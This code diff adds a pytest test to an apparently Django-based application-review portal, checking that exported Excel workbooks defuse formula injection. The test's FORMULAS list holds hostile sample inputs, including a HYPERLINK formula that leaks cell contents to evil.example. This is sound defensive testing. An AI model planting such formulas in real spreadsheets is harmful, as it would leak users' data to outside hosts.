@@ -1,16 +1,19 @@
 """Exports: the workbook read back with openpyxl, the ZIP by city, progress, and who may export."""
 
 import io
+import itertools
 import zipfile
 from pathlib import Path
 
 import pytest
 from django.core.files.base import ContentFile
+from django.core.files.storage import default_storage
 from django.urls import reverse
 from openpyxl import load_workbook
 
 from applications.models import Package
 from portal.audit.models import AuditAction, AuditEvent
+from portal.spreadsheets import FORMULA_STARTS
 from review.models import ExportJob
 
 from .conftest import expert_pool
@@ -155,3 +158,32 @@ def test_an_export_delivered_twice_is_written_once(client, people, scored, djang
     assert run_export.apply(args=[job.pk]).get() == job.file.name
     assert path.stat().st_mtime_ns == written
     assert ExportJob.objects.get(pk=job.pk).state == ExportJob.State.READY
+
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1")
+
+
+def test_no_cell_of_the_workbook_is_a_formula_whatever_the_applicants_and_experts_typed(
+    client, people, scored, django_capture_on_commit_callbacks
+):
+    """Every text column an applicant, expert or administrator fills reaches the workbook as text."""
+    from applications.models import Application, ApplicationPart
+    from review.models import Assignment, Criterion
+
+    hostile = itertools.cycle(FORMULAS)
+    for application in scored.values():
+        Application.objects.filter(pk=application.pk).update(name=next(hostile))
+        for part in ApplicationPart.objects.filter(application=application):
+            part.data = {key: next(hostile) if isinstance(value, str) else value for key, value in part.data.items()}
+            part.save(update_fields=["data"])
+    for assignment in Assignment.objects.filter(application__in=scored.values()):
+        Assignment.objects.filter(pk=assignment.pk).update(comment=next(hostile))
+    Criterion.objects.filter(call=scored["pizhou"].call).update(name=next(hostile))
+    client.force_login(people["province"])
+    job = export(client, scored["pizhou"].call, ExportJob.Kind.WORKBOOK, django_capture_on_commit_callbacks)
+    workbook = load_workbook(default_storage.path(job.file.name))
+    text = [c for sheet in workbook for line in sheet.iter_rows() for c in line if isinstance(c.value, str)]
+    assert not [c.coordinate for sheet in workbook for line in sheet.iter_rows() for c in line if c.data_type == "f"]
+    assert not [c.value for c in text if c.value.startswith(FORMULA_STARTS)]
+    defused = {c.value for c in text if c.value.startswith("'")}
+    assert {"'" + formula for formula in FORMULAS} <= defused  # names, fields, comments and criteria all seen
